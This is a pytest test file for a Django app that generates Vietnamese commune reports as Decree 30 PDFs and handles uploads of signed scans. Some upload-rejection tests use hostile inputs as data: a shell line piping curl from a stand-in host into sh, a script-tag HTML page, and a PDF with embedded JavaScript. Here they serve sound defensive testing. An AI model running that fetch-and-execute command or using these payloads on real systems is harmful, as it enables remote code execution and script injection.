"""A commune's own report as a Decree 30 PDF, and the scans of signed copies."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from django.urls import reverse

from documents import services
from documents.models import DocumentSettings, SignedCopy
from targets.models import Entry, Measure
from targets.numbers import format_number
from tests.documents.factories import jpeg_bytes, narrative_report, pdf_bytes, pdf_text

pytestmark = pytest.mark.django_db


def upload(name: str, content: bytes, content_type: str = "application/pdf"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content, content_type=content_type)


# ---------------------------------------------------------------- the commune's own PDF


def test_commune_report_pdf_has_its_own_header_figures_and_narrative(report_a, login, alice):
    response = login(alice).get(reverse("documents:submission_pdf", args=[report_a.pk]))
    assert response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content)
    for expected in (
        "ỦY BAN NHÂN DÂN",
        "XÃ THANH SƠN",
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Số: /BC-UBND",
        "Thanh Sơn, ngày",
        "Tuyên truyền của Xã Thanh Sơn: 12 buổi.",
        "Dòng thứ hai của Xã Thanh Sơn.",
        "Xã Thanh Sơn đề nghị hỗ trợ tài liệu.",
        "TM. ỦY BAN NHÂN DÂN",
        "CHỦ TỊCH",
        "Ban Chỉ đạo xây dựng XHHT huyện Ba Chẽ (để báo cáo)",
        "UBND xã Thanh Sơn báo cáo kết quả thực hiện trong kỳ",
        # every task group of the programme, numbered as in the programme; an empty one says so
        "I. KẾT QUẢ THỰC HIỆN CÁC NHIỆM VỤ 1. Tuyên truyền, nâng cao nhận thức Tuyên truyền",
        "3. Gắn xây dựng XHHT với các quy hoạch, đề án, phong trào Không có.",
        "II. SỐ LIỆU THỰC HIỆN CÁC CHỈ TIÊU",
        "III. TỒN TẠI, HẠN CHẾ, NGUYÊN NHÂN",
        "V. ĐỀ XUẤT, KIẾN NGHỊ",
    ):
        assert expected in text, expected
    assert "BAN CHỈ ĐẠO XÂY DỰNG XHHT" not in text  # not the committee's letterhead
    assert "DỰ THẢO" not in text  # submitted
    # its figures: every fraction's numerator, denominator and share, the Vietnamese way
    fractions = [v for v in report_a.values.select_related("indicator") if v.indicator.entry == Entry.FRACTION]
    assert len(fractions) >= 3
    for value in fractions:
        share = Decimal(value.numerator) * (10000 if value.indicator.measure == Measure.PER_10000 else 100)
        share_text = format_number(share / Decimal(value.denominator))
        assert f"{format_number(value.numerator, 0)}" in text and share_text in text, value.indicator.code


def test_commune_report_pdf_uses_the_communes_settings_from_the_admin(report_a, login, alice, commune_a):
    DocumentSettings.objects.create(
        unit=commune_a,
        issuer="ỦY BAN NHÂN DÂN\nXÃ THANH SƠN",
        place="Thanh Sơn",
        symbol="BC-UBND",
        signer_authority="TM. ỦY BAN NHÂN DÂN\nKT. CHỦ TỊCH",
        signer_title="PHÓ CHỦ TỊCH",
        signer_name="Lý Văn Sơn",
    )
    text = pdf_text(login(alice).get(reverse("documents:submission_pdf", args=[report_a.pk])).content)
    assert "Lý Văn Sơn" in text and "KT. CHỦ TỊCH" in text and "PHÓ CHỦ TỊCH" in text


def test_the_submission_page_links_its_pdf_and_signed_copies(report_a, login, alice, bob):
    page = login(alice).get(reverse("reporting:submission_detail", args=[report_a.pk])).content.decode()
    assert reverse("documents:submission_pdf", args=[report_a.pk]) in page
    assert reverse("documents:submission_signed", args=[report_a.pk]) in page
    assert login(bob).get(reverse("documents:submission_pdf", args=[report_a.pk])).status_code == 404


# ---------------------------------------------------------------- signed copies


@pytest.mark.parametrize(
    ("name", "content", "stored_type"),
    [("ban-ky.pdf", pdf_bytes(pages=2), "application/pdf"), ("ảnh chụp.JPG", jpeg_bytes(), "image/jpeg")],
)
def test_a_commune_uploads_its_signed_scan_which_only_those_who_see_the_report_download(
    report_a, login, alice, bob, rita, leo, dora, client, name, content, stored_type, media
):
    response = login(alice).post(
        reverse("documents:submission_signed", args=[report_a.pk]), {"file": upload(name, content)}
    )
    assert response.status_code == 302
    copy = SignedCopy.objects.get(submission=report_a)
    assert (copy.content_type, copy.size, copy.original_name) == (stored_type, len(content), name)
    assert copy.file.name.startswith("signed/") and name not in copy.file.name
    assert (media / copy.file.name).read_bytes() == content
    url = reverse("documents:signed_copy_download", args=[copy.pk])
    for user, status in ((alice, 200), (rita, 200), (leo, 200), (bob, 404), (dora, 404)):
        response = login(user).get(url)
        assert response.status_code == status, user
        if status == 200:
            assert b"".join(response.streaming_content) == content
            assert response["Content-Type"] == stored_type
    client.logout()
    assert client.get(url).status_code == 302
    # listed on the report's page and in its history
    for page in ("reporting:submission_detail", "reporting:submission_history"):
        assert name in login(rita).get(reverse(page, args=[report_a.pk])).content.decode()


SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("script.pdf", SCRIPT, "Chỉ nhận bản quét dạng PDF hoặc ảnh JPEG."),
        ("page.pdf", b"<html><script>alert(1)</script></html>", "Chỉ nhận bản quét dạng PDF hoặc ảnh JPEG."),
        ("fake.pdf", b"%PDF-1.7\n" + SCRIPT, "Tệp PDF bị hỏng hoặc không đọc được."),
        ("active.pdf", pdf_bytes(javascript=True), "chứa mã lệnh"),
        ("bang.xlsx", b"PK\x03\x04" + b"\x00" * 100, "Chỉ nhận bản quét dạng PDF hoặc ảnh JPEG."),
        ("anh.jpg", b"\xff\xd8\xff\xe0" + b"garbage" * 20, "Tệp ảnh JPEG bị hỏng"),
        ("empty.pdf", b"", "Tệp rỗng."),
    ],
)
def test_refused_scans_leave_nothing_stored(report_a, login, alice, name, content, message, media):
    response = login(alice).post(
        reverse("documents:submission_signed", args=[report_a.pk]), {"file": upload(name, content)}
    )
    assert response.status_code == 200
    page = response.content.decode()
    assert message in page and 'id="id_file-error"' in page and 'aria-invalid="true"' in page
    assert not SignedCopy.objects.exists()
    assert not any(path.is_file() for path in media.rglob("*")) if media.exists() else True


def test_a_scan_over_the_size_setting_is_refused(report_a, login, alice, settings):
    settings.XHHT_SIGNED_COPY_MAX_BYTES = 1024 * 1024
    big = pdf_bytes() + b"%" + b"0" * (1024 * 1024)
    response = login(alice).post(
        reverse("documents:submission_signed", args=[report_a.pk]), {"file": upload("big.pdf", big)}
    )
    assert response.status_code == 200
    assert "Tệp quá lớn: tối đa 1 MB." in response.content.decode()
    assert not SignedCopy.objects.exists()


def test_no_file_chosen_and_a_draft_report_are_refused(period, login, alice, bob):
    from reporting import services as reporting_services

    draft = reporting_services.submission_save_draft(unit=bob.unit, period=period, by=bob, values={})
    client = login(bob)
    response = client.post(
        reverse("documents:submission_signed", args=[draft.pk]), {"file": upload("a.pdf", pdf_bytes())}
    )
    assert response.status_code == 200 and "Chỉ tải bản ký lên báo cáo đã gửi." in response.content.decode()
    submitted = narrative_report(alice.unit, period, alice)
    response = login(alice).post(reverse("documents:submission_signed", args=[submitted.pk]), {})
    assert "Chọn tệp bản quét để tải lên." in response.content.decode()
    assert not SignedCopy.objects.exists()


def test_the_standing_agency_attaches_the_scan_to_the_issued_report(period, units, login, alice, rita, leo):
    narrative_report(alice.unit, period, alice, reviewer=rita)
    report = services.report_compile(unit=units["BACHE"], period=period, by=rita)
    url = reverse("documents:report_signed_upload", args=["BACHE", period.code])
    client = login(rita)
    response = client.post(url, {"file": upload("bc.pdf", pdf_bytes())})
    assert response.status_code == 302 and not SignedCopy.objects.exists()  # not issued yet
    issue = services.report_issue(
        report=report, by=rita, narrative=report.narrative, version=report.version, number=3, date=dt.date(2018, 7, 1)
    )
    response = client.post(url, {"file": upload("ke-hoach.pdf", SCRIPT)})
    assert response.status_code == 200 and "Chỉ nhận bản quét" in response.content.decode()
    assert client.post(url, {"file": upload("bc-da-ky.pdf", pdf_bytes())}).status_code == 302
    copy = SignedCopy.objects.get()
    assert copy.issue == issue
    page = login(leo).get(reverse("documents:report_page", args=["BACHE", period.code])).content.decode()
    assert "bc-da-ky.pdf" in page
    download = reverse("documents:signed_copy_download", args=[copy.pk])
    assert login(leo).get(download).status_code == 200
    assert login(alice).get(download).status_code == 404


def test_default_letterheads_of_a_department_and_of_a_district_that_is_not_the_committee(units):
    from documents.letterheads import letterhead_for, running_name

    department = letterhead_for(units["PNV"])
    assert (department.issuer_parent, department.issuer) == ("UBND HUYỆN BA CHẼ", "PHÒNG NỘI VỤ")
    assert department.place == "Ba Chẽ"
    district = letterhead_for(units["BACHE"])
    assert district.issuer == "ỦY BAN NHÂN DÂN\nHUYỆN BA CHẼ" and district.signer_authority == "TM. ỦY BAN NHÂN DÂN"
    assert letterhead_for(units["BACHE"], committee=True).issuer == "BAN CHỈ ĐẠO XÂY DỰNG XHHT"
    assert running_name(units["06973"]) == "UBND xã Thanh Sơn" and running_name(units["PNV"]) == "Phòng Nội vụ"


def test_a_committee_without_settings_is_headed_by_its_own_peoples_committee(units, settings):
    from documents.letterheads import letterhead_for

    province = letterhead_for(units["22"], committee=True)
    assert (province.issuer_parent, province.issuer, province.place) == (
        "UBND TỈNH QUẢNG NINH",
        "BAN CHỈ ĐẠO XÂY DỰNG XHHT",
        "Quảng Ninh",
    )
    # Its report goes to the Ministry and the province's leadership, not to a district's People's Committee.
    assert province.recipients[:3] == [
        "Bộ Giáo dục và Đào tạo (để báo cáo)",
        "Thường trực Tỉnh ủy, HĐND tỉnh Quảng Ninh (để báo cáo)",
        "UBND tỉnh Quảng Ninh (để báo cáo)",
    ]
    assert not any("huyện" in line for line in province.recipients)
    district = letterhead_for(units["BACHE"], committee=True)
    assert (district.issuer_parent, district.place) == ("UBND HUYỆN BA CHẼ", "Ba Chẽ")
    assert district.recipients[0] == "UBND huyện (để báo cáo)"  # the seed plan's list, unchanged
    commune = letterhead_for(units["06973"], committee=True)  # a commune running its own plan
    assert commune.recipients[:2] == [
        "Ban Chỉ đạo xây dựng XHHT huyện Ba Chẽ (để báo cáo)",
        f"Đảng ủy, HĐND {units['06973'].name[:1].lower()}{units['06973'].name[1:]} (để báo cáo)",
    ]
    # A superior body set in the environment still wins.
    settings.XHHT_ISSUER_PARENT, settings.XHHT_PLACE = "UBND TỈNH THỬ NGHIỆM", "Thử Nghiệm"
    assert (
        letterhead_for(units["22"], committee=True).issuer_parent,
        letterhead_for(units["22"], committee=True).place,
    ) == (
        "UBND TỈNH THỬ NGHIỆM",
        "Thử Nghiệm",
    )
